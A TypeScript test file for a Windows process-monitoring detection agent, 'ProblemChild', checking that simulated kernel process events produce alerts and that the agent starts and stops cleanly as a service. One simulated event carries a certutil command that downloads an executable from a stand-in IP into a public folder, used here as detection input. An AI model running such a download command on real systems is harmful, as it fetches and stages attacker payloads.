import assert from 'node:assert/strict';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { defaultFfi, listProcesses } from '../../../src/windows/index.ts';
import { AgentFolder } from './agent-process.ts';
import { DoubleScript } from './double-script.ts';
import { openTestLibrary } from './open-test-library.ts';
import { controlService, untilService } from './service-control.ts';
import { until } from './until.ts';

const system32 = '\\Device\\HarddiskVolume3\\Windows\\System32';
/** Only bounds a hang: what each part of a stop may take is its own setting, and a machine has other work as well. */
const stopLimitMs = 60_000;

function isAlertOn(pid: number) {
  return ({ event, process }: { event: { dataset?: unknown }; process?: { pid?: number } }) =>
    event.dataset === 'problemchild.alert' && process?.pid === pid;
}

function sayAttack(etw: DoubleScript, pid: number): void {
  etw.say('running', 600, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
  etw.say('start', pid - 4, 600, 0, `${system32}\\notepad.exe`, 'notepad.exe notes.txt');
  etw.say(
    'start',
    pid,
    600,
    0,
    `${system32}\\certutil.exe`,
    'certutil -urlcache -split -f http://203.0.113.7/a.exe c:\\users\\public\\a.exe',
  );
}

test('run in the foreground: from the kernel’s events to the record, stopped in order', async () => {
  const etw = new DoubleScript('etw');
  const folder = new AgentFolder(etw.path);
  const agent = folder.start();
  const ended = once(agent, 'exit');
  sayAttack(etw, 4_704);
  await until('an alert in the record', () => folder.record().some(isAlertOn(4_704))).catch(
    (error: unknown) => {
      throw new Error(`${String(error)}\n${folder.said('stderr')}`);
    },
  );
  etw.say('start', 4_708, 600, 0, `${system32}\\notepad.exe`, 'notepad.exe the last one.txt');
  folder.stop();
  const askedMs = Date.now();
  const [exitCode] = await ended;
  assert.ok(Date.now() - askedMs < stopLimitMs, `stopped after ${Date.now() - askedMs} ms`);
  assert.equal(exitCode, 0, folder.said('stderr'));
  assert.match(folder.said('stdout'), /certutil/);
  const summary =
    /records (\d+), process events (\d+), scored (\d+), related (\d+), filtered (\d+), rejected (\d+)/.exec(
      folder.said('stderr'),
    );
  assert.ok(summary, folder.said('stderr'));
  const [records, starts, scored, related, filtered, rejected] = summary.slice(1).map(Number);
  assert.equal(records, scored! + related! + filtered! + rejected!);
  assert.ok(starts! >= 2);
});

test('a stopped tracing session is an alert in the record', async () => {
  const etw = new DoubleScript('etw');
  const folder = new AgentFolder(etw.path);
  const agent = folder.start();
  const ended = once(agent, 'exit');
  etw.say('stop', 'classic');
  etw.say('start', 4_800, 600, 0, `${system32}\\notepad.exe`, 'notepad.exe');
  const isTold = (dataset: string, action: string) =>
    folder.record().some(({ event }) => event['dataset'] === dataset && event['action'] === action);
  await until('the alert', () => isTold('problemchild.alert', 'source-session-stopped'));
  await until('that it runs again', () => isTold('problemchild.health', 'source-session-started'));
  folder.stop();
  await ended;
  const alert = folder.record().find(({ event }) => event['action'] === 'source-session-stopped');
  assert.equal(alert?.event['severity'], 73);
});

/** Wine starts no service while the process of an earlier one of its name is still ending. */
async function removeService(): Promise<void> {
  controlService.remove('ProblemChild');
  const library = await openTestLibrary(defaultFfi());
  await until('its process has ended', () => {
    const processes = listProcesses(library);
    const controller = processes.find(({ imageName }) => imageName?.toLowerCase() === 'services.exe')?.pid;
    return !processes.some(
      ({ imageName, parentPid }) => imageName?.toLowerCase() === 'node.exe' && parentPid === controller,
    );
  });
}

function createService(folder: AgentFolder): string {
  const command = folder.command('run', '--service', '--config', folder.config);
  return controlService.create('ProblemChild', command);
}

test('run as the service: started and stopped by the service controller', async () => {
  const etw = new DoubleScript('etw');
  const folder = new AgentFolder(etw.path);
  // One may be left over from a run that was killed.
  await removeService();
  const created = createService(folder);
  try {
    const started = controlService.start('ProblemChild');
    await untilService('ProblemChild', 'RUNNING', `${created}${started}`);
    sayAttack(etw, 4_904);
    await until('an alert in the record', () => folder.record().some(isAlertOn(4_904)));
    controlService.stop('ProblemChild');
    const askedMs = Date.now();
    await untilService('ProblemChild', 'STOPPED', '');
    const tookMs = Date.now() - askedMs;
    assert.ok(tookMs < stopLimitMs, `stopped after ${tookMs} ms`);
    // WIN32_EXIT_CODE 0: an orderly end, upon which no recovery action follows.
    assert.match(controlService.query('ProblemChild'), /EXIT_CODE\s*:\s*0\b/);
  } finally {
    await removeService();
  }
});

/** Starts the agent as the service, and waits for its end; what the service controller then says of it. */
async function runToItsEnd(folder: AgentFolder): Promise<string> {
  await removeService();
  const created = createService(folder);
  try {
    const started = controlService.start('ProblemChild');
    await until(`${created}${started}an event on its end`, () => folder.eventLog().length > 0);
    await untilService('ProblemChild', 'STOPPED', `${created}${started}`);
    return controlService.query('ProblemChild');
  } finally {
    await removeService();
  }
}

test('a service that cannot begin ends with its own error, and the event log says why', async () => {
  // Refused before the log is open.
  const folder = new AgentFolder(new DoubleScript('etw').path, { log: { file: '.' } });
  assert.match(await runToItsEnd(folder), /EXIT_CODE\s*:\s*1066\b/);
  const [event] = folder.eventLog();
  // An error, under the event id of errors in native/resource/messages.mc.
  assert.deepEqual(event?.slice(0, 3), ['ProblemChild', '1', '4']);
  assert.match(event?.[3] ?? '', /PC_LOG_UNWRITABLE/);
});

test('what the service ends by is in its log as well', async () => {
  const folder = new AgentFolder(new DoubleScript('etw').path, { alert: { exceptionSets: ['no-such-set'] } });
  assert.match(await runToItsEnd(folder), /EXIT_CODE\s*:\s*1066\b/);
  const log = readFileSync(join(folder.path, 'log.ndjson'), 'utf8');
  assert.match(log, /"log\.level":"error","message":"The run ended with an error".*PC_EXCEPTION_INVALID/);
});
